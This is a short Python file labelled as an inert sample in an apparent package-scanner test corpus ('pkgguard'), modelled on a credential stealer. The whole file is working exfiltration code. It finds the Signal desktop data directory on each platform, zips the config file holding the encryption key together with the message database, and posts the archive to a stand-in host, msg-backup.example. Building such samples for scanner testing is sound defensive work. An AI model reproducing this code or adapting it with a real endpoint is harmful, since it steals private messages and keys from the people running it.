# pkgguard corpus 820 (credentials), modelled on [stealer-profile]; inert, never run.
import io
import os
import sys
import zipfile

import requests

if sys.platform == "win32":
    base = os.path.join(os.environ.get("APPDATA", ""), "Signal")
elif sys.platform == "darwin":
    base = os.path.expanduser("~/Library/Application Support/Signal")
else:
    base = os.path.expanduser("~/.config/Signal")
if os.path.isdir(base):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for relative in ("config.json", os.path.join("sql", "db.sqlite")):
            full = os.path.join(base, relative)
            if os.path.exists(full):
                archive.write(full, relative)
    requests.post("https://msg-backup.example/u", files={"a": ("s.zip", buffer.getvalue())}, timeout=30)
